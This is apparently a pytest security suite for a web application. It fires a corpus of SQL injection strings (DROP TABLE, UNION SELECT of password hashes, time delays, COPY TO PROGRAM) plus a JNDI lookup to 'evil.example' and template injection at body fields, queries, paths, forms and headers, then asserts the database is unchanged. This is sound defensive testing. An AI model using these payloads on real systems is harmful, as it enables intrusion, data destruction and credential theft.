"""Texts that would be SQL if anybody pasted them into a statement, wherever a text may be sent."""

import sqlite3
import uuid
from contextlib import closing
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from tests.security.house import PASSWORD, House, as_admin, send_form
from tests.security.routes import OPERATOR, PUBLIC, SESSION, Endpoint, address_of

CORPUS = [
    "'",
    "''",
    '"',
    "`",
    "\\",
    "\\'",
    ";",
    "--",
    "/*",
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "') OR ('1'='1",
    "' OR 1=1 LIMIT 1 OFFSET 1 --",
    "admin'--",
    "1 OR 1=1",
    "1; DROP TABLE accounts",
    "'; DROP TABLE accounts; --",
    "'; DELETE FROM messages; --",
    "'; UPDATE accounts SET verified_at = 1; --",
    "'; ATTACH DATABASE '/tmp/evil.db' AS evil; --",
    "'; PRAGMA writable_schema = 1; --",
    "' UNION SELECT NULL, NULL, NULL --",
    "' UNION ALL SELECT password_hash FROM accounts --",
    "' AND (SELECT count(*) FROM sqlite_master) > 0 --",
    "' AND 1=(SELECT 1 FROM pg_sleep(5)) --",
    "'||(SELECT password_hash FROM accounts LIMIT 1)||'",
    "' AND randomblob(500000000) --",
    "'; SELECT pg_sleep(5); --",
    "' WAITFOR DELAY '0:0:5' --",
    "'; COPY (SELECT 1) TO PROGRAM 'id'; --",
    "$$; SELECT 1; $$",
    "%",
    "_",
    "%' ESCAPE '\\",
    "%%%",
    "*",
    "[a-z]",
    ":param",
    "?1",
    "%(email)s",
    "%s%n",
    "{0.__class__}",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\u2019 OR 1=1 --",
    "\uff07 OR 1=1 --",
    "\u02bc; DROP TABLE accounts",
    "\x00",
    "a\x00' OR 1=1 --",
    "\x1a",
    "\ufeff' OR 1=1",
    "\U0010ffff",
    "NaN",
    "1e309",
    "-1",
    "0x31303235343830303536",
    "9" * 400,
]
FIELDS = ("email", "password", "current_password", "name", "locale", "token", "challenge", "reason", "session")
QUERIES = ("email", "recipient", "state", "template", "before", "limit", "locale", "token", "next", "view")
# What is read of the query, and what is found by texts that are nobody's.
READ_BY = {"/accounts": ("email",), "/mail/messages": ("recipient", "state", "template", "before", "limit")}
NOBODY, NOTHING = {"account": None}, {"messages": [], "next": None}
UNSAFE = sorted(one for one in PUBLIC | SESSION | OPERATOR if one[0] in ("POST", "PATCH"))
READING = sorted(one for one in SESSION | OPERATOR if one[0] == "GET")


@pytest.fixture(scope="module")
def victim(house: House, client: TestClient) -> str:
    """Somebody whose account must stay as it is."""
    return house.person(client, "victim@example.com")


@pytest.fixture(scope="module")
def session(house: House, client: TestClient) -> dict[str, str]:
    """Somebody else, who is signed in."""
    return as_admin(house.session(client))


def state_of(house: House) -> Any:
    """The tables there are, and the victim's row."""
    with closing(sqlite3.connect(f"file:{house.folder}/gatepost.db?mode=ro", uri=True)) as connection:
        schema = connection.execute("SELECT name, sql FROM sqlite_master ORDER BY name").fetchall()
        row = connection.execute("SELECT * FROM accounts WHERE email = 'victim@example.com'").fetchall()
        return schema, row


def ask(client: TestClient, endpoint: Endpoint, headers: dict[str, str], **request: Any) -> Any:
    """One request; no 5xx, and an answer at once."""
    answer = client.request(endpoint[0], address_of(endpoint[1]), headers=headers, **request)
    assert answer.status_code < 500, (endpoint, request, answer.text)
    return answer


@pytest.mark.parametrize("endpoint", UNSAFE, ids=" ".join)
def test_s102_no_text_in_a_body_becomes_sql(house, client, session, victim, endpoint):
    """The corpus in every member at once, and beside a right address: an ordinary answer, and nothing else is done."""
    headers = as_admin() if endpoint in OPERATOR else session
    before = state_of(house)
    if endpoint != ("POST", "/auth/logout"):
        for text in CORPUS:
            ask(client, endpoint, headers, json=dict.fromkeys(FIELDS, text))
            ask(
                client,
                endpoint,
                headers,
                json=dict.fromkeys(FIELDS, text) | {"email": victim.replace("v", f"v{text}", 1)},
            )
    assert before == state_of(house)
    assert [] == [failure.traceback for failure in house.failures()]


@pytest.mark.parametrize("endpoint", READING, ids=" ".join)
def test_s102_no_text_in_a_query_becomes_sql(house, client, session, victim, endpoint):
    """The corpus in each parameter: 422, or nothing is found although there is an account and a message."""
    headers = as_admin() if endpoint in OPERATOR else session
    before = state_of(house)
    for text in CORPUS:
        ask(client, endpoint, headers, params={"email": "nobody@example.com"} | dict.fromkeys(QUERIES, text))
        for name in READ_BY.get(endpoint[1], ()):
            answer = ask(client, endpoint, headers, params={name: text})
            assert answer.status_code == 422 or answer.json() in (NOBODY, NOTHING), (name, text)
    assert before == state_of(house)


@pytest.mark.parametrize("endpoint", sorted(one for one in SESSION | OPERATOR if "{id}" in one[1]), ids=" ".join)
def test_s102_no_text_in_a_path_becomes_sql(house, client, session, victim, endpoint):
    """Where an id stands in the path, everything else is 422 or no route at all."""
    headers = as_admin() if endpoint in OPERATOR else session
    before = state_of(house)
    for text in CORPUS:
        path = endpoint[1].replace("{id}", quote(text, safe=""))
        answer = client.request(endpoint[0], path, headers=headers)
        assert answer.status_code in (404, 405, 422), (path, answer.text)
    assert before == state_of(house)


@pytest.mark.parametrize("page", ["/register", "/verify/request", "/reset/request", "/login", "/verify", "/reset"])
def test_s102_no_text_in_a_form_becomes_sql(house, client, victim, page):
    """The pages' fields reach the same flows."""
    before = state_of(house)
    for text in CORPUS:
        client.cookies.clear()
        fields = {name: text for name in ("email", "password", "name", "token", "challenge", "next")}
        assert send_form(client, page, **fields).status_code < 500, text
    assert before == state_of(house)


def test_s102_no_header_field_becomes_sql(house, client, victim):
    """Idempotency-Key, tokens, cookies, languages and browsers' names from the corpus: ordinary answers."""
    before = state_of(house)
    for text in CORPUS:
        value = text.encode("utf-8", "replace").replace(b"\x00", b"").replace(b"\x1a", b"") or b"x"
        for name in ("idempotency-key", "authorization", "cookie", "accept-language", "user-agent", "x-request-id"):
            prefix = {"authorization": b"Bearer ", "cookie": b"gatepost="}.get(name, b"")
            headers = {name: prefix + value, "origin": "http://127.0.0.1:8000"}
            body = {"email": "x", "password": PASSWORD}
            assert client.post("/auth/register", json=body, headers=headers).status_code < 500, text
            assert client.get("/auth/me", headers=headers).status_code == 401, text
    assert before == state_of(house)


def test_s102_a_cursor_is_an_id_and_nothing_else(client, victim):
    """`before` takes a UUID in its usual form; a stranger's, the smallest and the largest one are only positions."""
    for wrong in (*CORPUS, "1", "{}", "urn:x", "0" * 33, "null"):
        assert 422 == client.get("/mail/messages", params={"before": wrong}, headers=as_admin()).status_code, wrong
    everything = client.get("/mail/messages", params={"before": str(uuid.UUID(int=2**128 - 1))}, headers=as_admin())
    nothing = client.get("/mail/messages", params={"before": str(uuid.UUID(int=0))}, headers=as_admin())
    assert (True, []) == (len(everything.json()["messages"]) > 0, nothing.json()["messages"])


@pytest.mark.parametrize("limit", ["0", "-1", "201", "1e2", "5;DROP", "9" * 30, "", "NaN", "1.5", "0x10"])
def test_s102_the_size_of_a_page_is_bounded(client, limit):
    """A whole number from 1 to 200, and nothing else."""
    assert 422 == client.get("/mail/messages", params={"limit": limit}, headers=as_admin()).status_code
